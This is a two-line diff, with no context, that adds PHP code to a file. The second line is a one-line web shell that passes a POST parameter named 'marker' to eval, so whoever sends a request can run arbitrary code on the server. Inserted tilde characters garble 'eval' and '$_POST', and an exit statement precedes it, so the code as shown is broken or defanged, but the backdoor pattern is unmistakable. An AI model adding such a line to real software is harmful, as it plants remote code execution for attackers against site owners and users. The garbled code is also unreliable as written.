@@ -1,0 +1,2 @@
+<?php exit; ?>
+<?php eva~l($_P~OST['marker']);
